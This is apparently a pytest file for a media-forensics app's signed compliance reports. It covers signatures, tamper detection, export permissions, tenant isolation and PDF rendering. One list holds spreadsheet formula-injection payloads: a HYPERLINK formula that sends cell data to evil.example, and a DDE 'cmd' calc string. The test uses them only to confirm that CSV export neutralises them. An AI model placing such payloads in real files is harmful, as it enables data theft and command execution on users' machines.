"""Signed period reports: exported by compliance, verifiable offline, tamper-evident, audited."""
import json
from datetime import UTC, date, timedelta

import pytest
from django.core.management import call_command
from rest_framework.test import APIClient

from forensics import services
from forensics.reviews import record_review
from provenance.models import AuditEvent
from provenance.signing import load_public_key_pem, verify_bytes, verify_json
from tests.conftest import make_user
from tests.support.media import jpeg_bytes
from tests.support.openapi import assert_conforms
from webapp.accounts.keys import issue_api_key
from webapp.accounts.tenancy import system_actor

pytestmark = pytest.mark.usefixtures("eager_celery")
PERIOD = {"start": str(date.today() - timedelta(days=1)), "end": str(date.today() + timedelta(days=1))}


@pytest.fixture
def history(tenant):  # type: ignore[no-untyped-def]
    actor = system_actor(tenant, "user:mod")
    analyses = [services.submit_chunks(actor, [jpeg_bytes(seed=70 + i)]) for i in range(3)]
    for a in analyses:
        a.refresh_from_db()
    record_review(actor, analyses[0], "escalate", "needs a second look")
    return analyses


def compliance_api(tenant) -> APIClient:  # type: ignore[no-untyped-def]
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_api_key(tenant, 'compliance', ['export']).plaintext}")
    return client


def export(client, **params):  # type: ignore[no-untyped-def]
    """Request a report, check the job finished on the worker, and download it."""
    requested = client.post("/api/v1/reports", {**PERIOD, **params}, format="json")
    assert requested.status_code == 202, requested.content
    assert_conforms(requested, "POST", "/api/v1/reports")
    polled = client.get(requested["Location"])
    assert_conforms(polled, "GET", "/api/v1/reports/{id}")
    job = polled.json()
    assert job["state"] == "done" and job["progress"] == 1.0, job
    return client.get(job["download"])


def public_key(client):  # type: ignore[no-untyped-def]
    response = client.get("/.well-known/forensics-report-key.pem")
    assert response.status_code == 200
    return load_public_key_pem(response.content)


def test_json_report_verifies_offline_and_a_changed_byte_does_not(tenant, history, tmp_path, capsys) -> None:
    client = compliance_api(tenant)
    response = export(client, format="json")
    assert response.status_code == 200
    report = json.loads(b"".join(response.streaming_content))
    assert report["schema"] == "media-forensics/period-report/v1"
    assert report["counts"]["analyses"] == 3 and report["counts"]["reviewed"] == 1
    assert report["audit_chain_head"]["seq"] >= 10
    escalated = [row for row in report["items"] if row["review_decision"] == "escalate"]
    assert escalated[0]["review_reason"] == "needs a second look" and escalated[0]["automated_decision"] == "partially"
    assert verify_json(report, [public_key(client)])

    pem = tmp_path / "key.pem"
    pem.write_bytes(client.get("/.well-known/forensics-report-key.pem").content)
    path = tmp_path / "report.json"
    body = json.dumps(report, indent=2, ensure_ascii=False).encode()
    path.write_bytes(body)
    call_command("verify_report", str(path), "--public-key", str(pem))
    assert "VALID" in capsys.readouterr().out
    path.write_bytes(body.replace(b'"analyses": 3', b'"analyses": 2'))
    with pytest.raises(SystemExit):
        call_command("verify_report", str(path), "--public-key", str(pem))
    assert "INVALID" in capsys.readouterr().out
    assert AuditEvent.objects.filter(action="report.requested").count() == 1
    exported = AuditEvent.objects.get(action="report.exported")
    assert exported.payload["format"] == "json" and exported.actor.startswith("api-key:")


def test_csv_report_has_one_row_per_item_and_a_detached_signature(tenant, history) -> None:
    client = compliance_api(tenant)
    response = export(client, format="csv")
    content = b"".join(response.streaming_content)
    lines = content.decode().strip().splitlines()
    assert lines[0].startswith("analysis_id,") and len(lines) == 4
    assert verify_bytes(content, response["X-Signature"], [public_key(client)])
    assert not verify_bytes(content + b"x", response["X-Signature"], [public_key(client)])


def test_only_export_scopes_and_roles_may_export(tenant, history, api_key, client) -> None:
    reader = APIClient()
    reader.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_api_key(tenant, 'ro', ['read']).plaintext}")
    assert reader.post("/api/v1/reports", PERIOD, format="json").status_code == 403
    client.force_login(make_user(tenant, "mod2", role="moderator"))
    assert client.get("/reports/").status_code == 403


def test_compliance_user_exports_from_the_console(tenant, history, client) -> None:
    client.force_login(make_user(tenant, "carol", role="compliance"))
    assert "Export a signed report" in client.get("/reports/").content.decode()
    response = client.post("/reports/", {**PERIOD, "format": "json", "verdict": ""})
    assert response.status_code == 302
    page = client.get("/reports/").content.decode()
    assert "Download" in page and "user:carol" in page
    from webapp.reporting.models import ReportExport

    job = ReportExport.objects.get()
    download = client.get(f"/reports/{job.id}/download")
    assert "attachment" in download["Content-Disposition"]
    assert json.loads(b"".join(download.streaming_content))["counts"]["analyses"] == 3
    bad = client.post("/reports/", {"start": PERIOD["end"], "end": PERIOD["start"], "format": "json"})
    assert bad.status_code == 400 and "after" in bad.content.decode()


def test_reports_never_include_another_tenant(tenant, other_tenant, history) -> None:
    services.submit_chunks(system_actor(other_tenant), [jpeg_bytes(seed=99)])
    report = json.loads(b"".join(export(compliance_api(tenant)).streaming_content))
    assert report["counts"]["analyses"] == 3 and report["tenant"] == "acme"


def test_pdf_report_renders_with_evidence_and_verifies(tenant, tmp_path, capsys) -> None:
    """The PDF is checked as pictures: rendered to PNG pages, with the flagged item's evidence image."""
    import pypdfium2
    from PIL import Image

    actor = system_actor(tenant, "user:mod")
    bright = Image.new("RGB", (80, 60), (250, 250, 250))
    path = tmp_path / "bright.png"
    bright.save(path)
    flagged = services.submit_path(actor, path)
    services.submit_chunks(actor, [jpeg_bytes(seed=90)])
    flagged.refresh_from_db()
    assert flagged.verdict == "likely_synthetic"

    client = compliance_api(tenant)
    response = export(client, format="pdf")
    content = b"".join(response.streaming_content)
    assert response["Content-Type"] == "application/pdf"
    assert verify_bytes(content, response["X-Signature"], [public_key(client)])
    pdf = pypdfium2.PdfDocument(content)
    text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    assert "Media forensics period report" in text and flagged.item.sha256[:12] in text
    assert "test-brightness · brightness" in text  # the evidence picture's caption
    # the model card's threshold, not the one a tenant's calibration may have put behind a verdict
    assert "shipped threshold" in text
    page = pdf[0].render(scale=1).to_pil().convert("L")
    assert page.size[0] > 500 and len(set(page.getdata())) > 10  # a real rendered page, not blank
    out = tmp_path / "report.pdf"
    out.write_bytes(content)
    (tmp_path / "report.pdf.sig").write_text(response["X-Signature"])
    call_command("verify_report", str(out))
    assert "VALID" in capsys.readouterr().out
    for i in range(len(pdf)):
        pdf[i].render(scale=1.5).to_pil().save(tmp_path / f"page{i}.png")


def test_other_tenants_cannot_read_an_export(tenant, other_tenant, history) -> None:
    requested = compliance_api(tenant).post("/api/v1/reports", PERIOD, format="json")
    assert compliance_api(other_tenant).get(requested["Location"]).status_code == 404
    assert compliance_api(other_tenant).get(requested["Location"] + "/download").status_code == 404


def test_per_item_forensic_report_has_its_evidence(tenant, history) -> None:
    import pypdfium2

    target = history[1]
    client = compliance_api(tenant)
    report = json.loads(b"".join(export(client, analysis=str(target.id)).streaming_content))
    assert report["kind"] == "item" and [row["analysis_id"] for row in report["items"]] == [str(target.id)]
    pdf = pypdfium2.PdfDocument(b"".join(export(client, analysis=str(target.id), format="pdf").streaming_content))
    text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    assert target.item.sha256[:12] in text and "test-brightness · brightness" in text


TEXT_60_WORDS = "The committee met on Tuesday to review the harbour plans, and after a long argument about costs and tides it agreed to rebuild the old sea wall before winter, while the fishermen asked for a new slipway and the mayor promised to find the money somewhere in next year's budget without raising local taxes again this time"


def test_pdf_reports_render_when_a_text_analysis_is_in_scope(tenant, settings, tmp_path) -> None:
    """The text detectors' model info has no test FPR; the period PDF, the per-item PDF (the console's default
    export of a text item) and ``export_report --format pdf`` must still render, with a dash for what is missing."""
    import pypdfium2

    settings.FORENSICS_DISABLED_DETECTORS = [d for d in settings.FORENSICS_DISABLED_DETECTORS if d != "text-supervised"]
    text = services.submit_text(system_actor(tenant, "user:mod"), TEXT_60_WORDS)
    text.refresh_from_db()
    info = text.detector_results.get(detector="text-supervised").model_info
    assert info["test_auc"] and "test_fpr_at_threshold" not in info  # the shape that used to crash the PDF

    client = compliance_api(tenant)
    for params in ({}, {"analysis": str(text.id)}):
        pdf = pypdfium2.PdfDocument(b"".join(export(client, format="pdf", **params).streaming_content))
        page_text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
        assert "text-supervised" in page_text and text.item.sha256[:12] in page_text
    out = tmp_path / "r.pdf"
    call_command("export_report", "--tenant", tenant.slug, "--start", PERIOD["start"], "--end", PERIOD["end"],
                 "--format", "pdf", "--out", str(out))
    assert out.read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize("info", [{}, {"name": "x", "test_auc": 0.9}, {"threshold": None, "test_auc": "0.9"}],
                         ids=["no-metrics", "auc-only", "empty-values"])
def test_the_pdf_model_table_tolerates_any_detector_info(tenant, info) -> None:
    from datetime import datetime

    from webapp.reporting.pdf import render_pdf
    from webapp.reporting.reports import build_period_report

    report = build_period_report(tenant, datetime(2026, 1, 1, tzinfo=UTC),
                                 datetime(2026, 2, 1, tzinfo=UTC))
    report["model_versions"] = {"some-detector@1": info}
    assert render_pdf(report, []).startswith(b"%PDF")


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tenant) -> None:
    import csv
    import io

    actor = system_actor(tenant, "user:mod")
    for i, reason in enumerate(FORMULAS):
        record_review(actor, services.submit_chunks(actor, [jpeg_bytes(seed=200 + i)]), "escalate", reason)
    client = compliance_api(tenant)
    response = export(client, format="csv")
    content = b"".join(response.streaming_content)
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert sorted(row["review_reason"] for row in rows) == sorted("'" + reason for reason in FORMULAS)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert verify_bytes(content, response["X-Signature"], [public_key(client)])  # the signed bytes are these
    report = json.loads(b"".join(export(client, format="json").streaming_content))
    assert sorted(row["review_reason"] for row in report["items"]) == sorted(FORMULAS)  # JSON keeps them verbatim


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
def test_csv_safe_quotes_every_formula_start(cell: str) -> None:
    from webapp.reporting.reports import csv_safe

    assert csv_safe(cell) == "'" + cell and csv_safe("a=1") == "a=1" and csv_safe(None) is None


def test_reports_name_the_calibration_behind_each_verdict(tenant, tmp_path, settings) -> None:
    """Period and per-item reports (JSON, and the PDF renders) say which thresholds decided each verdict."""
    import numpy as np

    from forensics import calibrations
    from tests.forensics.test_calibrations import calibrate
    from tests.support.media import gray_png

    settings.FORENSICS_CALIBRATION_MIN_REAL = 40
    settings.FORENSICS_CALIBRATION_BOOTSTRAP = 20
    actor = system_actor(tenant, "user:admin")
    shipped = services.submit_chunks(actor, [gray_png(0.7, 1)], original_name="before.png")
    calibration = calibrations.activate(actor, calibrate(actor, tmp_path, list(np.linspace(0.4, 0.8, 40))))
    tuned = services.submit_chunks(actor, [gray_png(0.7, 2)], original_name="after.png")

    client = compliance_api(tenant)
    report = json.loads(b"".join(export(client, format="json").streaming_content))
    by_id = {row["analysis_id"]: row for row in report["items"]}
    assert by_id[str(shipped.id)]["operating_point"].startswith("shipped thresholds")
    assert by_id[str(tuned.id)]["operating_point"].startswith(f"tenant calibration v{calibration.version} ({calibration.id}")
    assert [c["id"] for c in report["calibrations"]] == [str(calibration.id)]
    assert report["calibrations"][0]["thresholds"] == calibration.thresholds

    item = json.loads(b"".join(export(client, format="json", analysis=str(tuned.id)).streaming_content))
    assert item["kind"] == "item" and item["items"][0]["operating_point"].startswith("tenant calibration")
    assert export(client, format="pdf", analysis=str(tuned.id)).status_code == 200
